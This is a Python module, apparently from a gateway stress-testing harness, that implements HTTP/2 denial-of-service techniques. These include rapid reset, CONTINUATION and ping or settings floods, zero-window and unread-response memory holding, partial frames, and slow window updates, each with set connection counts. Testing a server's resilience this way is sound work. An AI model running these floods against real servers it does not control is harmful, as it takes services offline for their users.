"""What a client of HTTP/2 may do within the protocol, or just outside of it, to hold memory or to make work."""
import frames
from attacks.attack import attack

STREAMS = 128  # as many as the gateway lets be open at once
SMALL_BUFFER = 4096
PAUSE = 0.1  # seconds between two bursts of a flood


async def open_connection(link, window=0, receive_buffer=None):
    """Every other one over TLS. Its streams may be sent `window` bytes each."""
    if link.number % 2:
        await link.connect_tls("h2", receive_buffer=receive_buffer)
    else:
        await link.connect(receive_buffer=receive_buffer)
    await link.send(frames.opening(window))


def requests(method, path, count, first=1, end=True):
    """Heads of so many streams."""
    section = frames.fields(method, path, "chaos")
    flags = frames.END_HEADERS | (frames.END_STREAM if end else 0)
    return [frames.frame(frames.HEADERS, flags, first + 2 * number, section) for number in range(count)]


def counting(link):
    """Takes what the gateway sends, and counts its answers, resets and farewells."""
    pieces = frames.Frames()

    def take(data):
        for kind, _, _, payload in pieces.of(data):
            if kind == frames.HEADERS:
                link.tell(str(frames.status(payload)))
            elif kind == frames.RESET:
                link.tell(f"reset {frames.error(payload)}")
            elif kind == frames.GOAWAY:
                link.tell(f"goaway {frames.error(payload, 4)}")
    return take


async def flood(link, data, pause=PAUSE, times=1_000_000):
    """Sends it over and over, and reads what comes meanwhile. `data` may be made anew for each time."""
    take = counting(link)
    for number in range(times):
        await link.send(data(number) if callable(data) else data)
        await link.rest(pause)
        await link.glance(take)


@attack(connections=200, pace=10)
async def http2_unread_bodies(link):
    """window 0 and 128 POST /nope with one byte of DATA each"""
    await open_connection(link)
    body = [frames.frame(frames.DATA, 0, 1 + 2 * number, b"x") for number in range(STREAMS)]
    await link.send(b"".join(head + byte for head, byte in zip(requests("POST", "/nope", STREAMS, end=False), body)))
    await link.until_closed(counting(link))


@attack(connections=500, pace=50)
async def http2_partial_frame(link):
    """three bytes of a frame's head"""
    await open_connection(link)
    await link.send(b"\x00\x40\x00")
    await link.until_closed(counting(link))


@attack(connections=100, pace=20)
async def http2_half_frame(link):
    """a frame of 16 KB of which all but the last byte comes"""
    await open_connection(link)
    await link.send(requests("POST", "/good/x", 1, end=False)[0] + frames.frame(frames.DATA, 0, 1, b"x" * 16384)[:-1])
    await link.until_closed(counting(link))


@attack(connections=20, pace=5)
async def http2_continuation(link):
    """field sections without end, in frames of continuation"""
    await open_connection(link)
    await link.send(frames.frame(frames.HEADERS, 0, 1, frames.fields("GET", "/good/x", "chaos")))
    await flood(link, frames.frame(frames.CONTINUATION, 0, 1, b"\x00\x03x-a\x04more" * 20 if link.number % 4 < 2 else b""), PAUSE / 10)


@attack(connections=20, pace=5)
async def http2_rapid_reset(link):
    """streams that are reset as soon as they are asked for"""
    await open_connection(link, 65535)
    cancel = b"\x00\x00\x00\x08"

    def burst(number):
        first = 1 + 100 * number
        return b"".join(head + frames.frame(frames.RESET, 0, first + 2 * at, cancel)
                        for at, head in enumerate(requests("GET", "/good/x", 50, first)))
    await flood(link, burst)


@attack(connections=10, pace=5)
async def http2_settings(link):
    """settings, a hundred frames at a time"""
    await open_connection(link)
    await flood(link, frames.settings({frames.INITIAL_WINDOW: 0}) * 100)


@attack(connections=10, pace=5)
async def http2_pings(link):
    """pings, a hundred at a time"""
    await open_connection(link)
    await flood(link, frames.frame(frames.PING, payload=b"01234567") * 100)


@attack(connections=10, pace=5)
async def http2_unread_pings(link):
    """pings whose answers are never read"""
    await open_connection(link, receive_buffer=SMALL_BUFFER)
    for _ in range(200):
        await link.send(frames.frame(frames.PING, payload=b"01234567") * 10)
        await link.rest(PAUSE)


@attack(connections=20, pace=5)
async def http2_unread_large(link):
    """window 0 and 128 GETs of a large answer"""
    await open_connection(link, receive_buffer=SMALL_BUFFER)
    await link.send(b"".join(requests("GET", "/large", STREAMS)))
    await link.until_closed(counting(link))


@attack(connections=20, pace=5)
async def http2_drops(link):
    """windows that are opened a byte at a time"""
    await open_connection(link)
    await link.send(b"".join(requests("GET", "/large", 16)))
    one = b"".join(frames.frame(frames.WINDOW_UPDATE, 0, 1 + 2 * number, b"\x00\x00\x00\x01") for number in range(16))
    await flood(link, one, 1)
